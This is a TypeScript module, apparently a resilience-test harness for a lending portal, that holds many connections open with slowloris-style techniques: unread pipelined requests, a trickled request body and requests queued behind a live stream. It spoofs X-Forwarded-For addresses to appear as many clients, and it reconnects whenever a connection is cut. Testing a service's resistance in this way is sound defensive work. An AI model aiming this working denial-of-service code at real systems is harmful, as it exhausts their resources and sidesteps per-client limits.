import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** Ways to hold a connection for as long as possible. */
export type Attack = 'unread answers' | 'slow body' | 'behind a live stream';

export type Hostile = {
  readonly url: URL;
  /** Whom it says it is, where the portal believes a proxy. */
  readonly address: string;
  /** Session cookie, for what needs one. */
  readonly cookie: string;
};

const PIPELINED = 100;
const REOPENED_AFTER_MS = 100;
/** A sender that reads nothing learns only by sending that the other side is gone. */
const BYTE_EVERY_MS = 500;

const requestText = ({ url, address, cookie }: Hostile, line: string, headers: readonly string[] = []): string =>
  [
    `${line} HTTP/1.1`,
    `Host: ${url.host}`,
    `X-Forwarded-For: ${address}`,
    ...(cookie ? [`Cookie: lendlog=${cookie}`] : []),
    ...headers,
    '',
    '',
  ].join('\r\n');

const begin: Readonly<Record<Attack, (hostile: Hostile, socket: Socket) => void>> = {
  'unread answers': (hostile, socket) => {
    socket.pause();
    socket.write(requestText({ ...hostile, cookie: '' }, 'GET /api/openapi.json').repeat(PIPELINED));
  },
  'slow body': (hostile, socket) => {
    const headers = ['Content-Type: application/json', 'Content-Length: 1000000'];
    socket.write(requestText({ ...hostile, cookie: '' }, 'POST /webhooks/demo-credit-bureau', headers));
    socket.resume();
  },
  'behind a live stream': (hostile, socket) => {
    socket.pause();
    const behind = requestText(hostile, 'GET /api/auth/user').repeat(PIPELINED);
    socket.write(requestText(hostile, 'GET /api/live') + behind);
  },
};

/** A connection held until stopped. */
export type Held = { readonly stop: () => Promise<void> };

/** Holds one connection in this way, and comes again when it is cut. */
const holdConnection = (attack: Attack, hostile: Hostile): Held => {
  let isStopped = false;
  let open: Socket | undefined;
  const hold = async (): Promise<void> => {
    while (!isStopped) {
      const socket = connect(Number(hostile.url.port), hostile.url.hostname);
      open = socket;
      const closed = new Promise((resolve) => socket.once('close', resolve));
      socket.on('error', () => undefined);
      socket.once('connect', () => begin[attack](hostile, socket));
      const sending = setInterval(() => socket.writable && socket.write('x'), BYTE_EVERY_MS);
      await closed;
      clearInterval(sending);
      await sleep(REOPENED_AFTER_MS);
    }
  };
  const holding = hold();
  return {
    stop: async (): Promise<void> => {
      isStopped = true;
      open?.destroy();
      await holding;
    },
  };
};

/** So many connections of so many clients, the attacks in turns. */
export const holdConnections = (
  attacks: readonly Attack[],
  { url, cookie, clients, each }: Omit<Hostile, 'address'> & { readonly clients: number; readonly each: number },
): Held[] =>
  Array.from({ length: clients * each }, (_, index) =>
    holdConnection(attacks[index % attacks.length] ?? 'slow body', {
      url,
      address: `203.0.113.${(index % clients) + 1}`,
      cookie,
    }),
  );
